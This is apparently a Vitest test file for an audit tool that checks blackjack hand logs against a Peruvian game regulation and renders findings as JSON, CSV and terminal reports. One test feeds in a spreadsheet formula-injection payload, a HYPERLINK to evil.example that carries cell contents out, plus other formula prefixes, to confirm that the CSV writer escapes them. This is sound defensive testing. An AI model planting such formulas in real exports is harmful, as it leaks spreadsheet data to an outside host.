import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { runAudit } from '../../audit/run.js';
import { RULESETS } from '../../rules-catalog/index.js';
import { writeJson } from '../../reports/json.js';
import { writeCsv, csvCell } from '../../reports/csv.js';
import { writeTerminal } from '../../reports/terminal.js';
import { exitCode } from '../../reports/exit-code.js';
import { writeFiles } from '../helpers/audit-files.js';
import { Sink } from '../helpers/sink.js';

async function render(paths: string[], kind: 'json' | 'csv' | 'text', lang: 'es' | 'en' = 'en') {
  const run = await runAudit({ paths, rulesets: RULESETS });
  const out = new Sink();
  if (kind === 'json') await writeJson(run, out, lang);
  else if (kind === 'csv') await writeCsv(run, out, lang);
  else await writeTerminal(run, out, { lang, color: false, rulesets: RULESETS });
  run.dispose();
  return { text: out.text(), code: exitCode(run.summary) };
}

const demo = new URL('../../fixtures/demo/pot-luck-lima.ndjson', import.meta.url).pathname;

describe('outputs', () => {
  it('the same input gives byte-identical JSON, twice', async () => {
    const a = await render([demo], 'json');
    const b = await render([demo], 'json');
    expect(a.text).toBe(b.text);
    expect(a.code).toBe(1);
    const doc = JSON.parse(a.text);
    expect(doc.summary.hands).toBe(doc.summary.audited + doc.summary.rejected);
    expect(doc.findings.length).toBe(doc.summary.findings);
    expect(doc.inputs[0].sha256).toMatch(/^[0-9a-f]{64}$/);
    for (const f of doc.findings) expect(f.article).toMatch(/^Art\. \d+º$/);
  });

  it('JSON findings carry the format\'s fields: a blackjack paid 1 to 1', async () => {
    const doc = JSON.parse((await render([new URL('../../fixtures/pe-pot-luck-black-jack/art13-blackjack-paid-1-to-1.json', import.meta.url).pathname], 'json')).text);
    expect(doc.findings).toEqual([expect.objectContaining({
      hand_id: 'PL-A13-BJ', event: 9, ruleset: 'pe-pot-luck-black-jack', rule: 'blackjack-pays-3-to-2',
      article: 'Art. 13º', citation: 'Reglamento del Juego de Pot Luck Black Jack, Art. 13º', category: 'payout',
      severity: 'error', seat: 1, hand: 1, spot: 'main', currency: 'PEN', expected: 150, actual: 100, difference: -50, owed_to_player: 50,
    })]);
    // Money by currency only: no total that could add two currencies.
    expect(doc.summary.money).toEqual({ PEN: { underpaid_to_players: 50, overpaid_to_players: 0 } });
    expect(doc.summary.underpaid_to_players).toBeUndefined();
  });

  it('Spanish and English messages are both complete', async () => {
    const path = new URL('../../fixtures/pe-pot-luck-black-jack/art13-blackjack-paid-1-to-1.json', import.meta.url).pathname;
    const es = JSON.parse((await render([path], 'json', 'es')).text).findings[0].message;
    const en = JSON.parse((await render([path], 'json', 'en')).text).findings[0].message;
    expect(es).toBe('Asiento 1, mano 1 (Black Jack contra 17 del dealer): la mesa liquidó un pago de PEN 100.00; el Art. 13º exige 3 a 2 sobre PEN 100.00 = PEN 150.00; debido al jugador PEN 50.00.');
    expect(en).toBe('Seat 1, hand 1 (Black Jack against the dealer\'s 17): the table settled a payout of PEN 100.00; Art. 13º requires 3 to 2 on PEN 100.00 = PEN 150.00; owed to the player PEN 50.00.');
  });

  it('CSV neutralises formula injection in cells from the log (OWASP)', async () => {
    const hand = JSON.parse(readFileSync(new URL('../../fixtures/pe-pot-luck-black-jack/art13-blackjack-paid-1-to-1.json', import.meta.url), 'utf8'))[0];
    hand.hand_id = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    hand.dealer_id = '@SUM(1+1)';
    const [p] = writeFiles({ 'evil.json': JSON.stringify([hand]) });
    const { text } = await render([p!], 'csv');
    const rows = Papa.parse<string[]>(text.trim(), { header: false }).data;
    const header = rows[0]!;
    const row = rows[1]!;
    expect(row[header.indexOf('hand_id')]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(row[header.indexOf('dealer_id')]).toBe('\'@SUM(1+1)');
    expect(row[header.indexOf('difference')]).toBe('-50.00'); // numbers stay numbers, with two decimals
    expect(row[header.indexOf('currency')]).toBe('PEN');
    expect(csvCell('+1')).toBe('\'+1');
    expect(csvCell('\tx')).toBe('\'\tx');
    // after spaces a spreadsheet may trim, and in full-width forms
    expect([csvCell(' =1+1'), csvCell('\u00a0@SUM(A1)'), csvCell('\uFF1D1+1'), csvCell('\u3000\uFF0B1')]).toEqual(["' =1+1", "'\u00a0@SUM(A1)", "'\uFF1D1+1", "'\u3000\uFF0B1"]);
    expect([csvCell(' a=1'), csvCell('T-1')]).toEqual([' a=1', 'T-1']);
    expect(csvCell('a,b')).toBe('"a,b"');
  });

  it('the terminal report\'s header comes before the hands: the run, each input with its whole SHA-256, the rulesets', async () => {
    const { text } = await render([demo], 'text');
    const lines = text.split('\n');
    const firstHand = lines.findIndex((l) => l.startsWith('Hand '));
    expect(firstHand).toBeGreaterThan(3);
    const head = lines.slice(0, firstHand).join('\n');
    expect(head).toMatch(/^Veedor — audit {2}R-[0-9a-f]{16} {2}\(veedor \d+\.\d+\.\d+\)\n/);
    expect(head).toContain(`  File: ${demo}  42 hands, 0 rejected\n    SHA-256 ${createHash('sha256').update(readFileSync(demo)).digest('hex')}\n`);
    expect(head).toContain('  Rulesets: pe-pot-luck-black-jack 1.0.0\n');
  });

  it('the terminal report reconciles the counts', async () => {
    const { text } = await render([demo], 'text');
    expect(text).toMatch(/Hands read: 42 = 42 audited \+ 0 rejected/);
    // One heading per ruleset, then count, article and title in columns.
    expect(text).toContain('  By article:\n    pe-pot-luck-black-jack\n      4  Art. 8º   Mandatory dealing (visible part)\n');
    expect(text).toContain('\n      3  Art. 13º  Blackjack for a player or the dealer\n');
  });
});
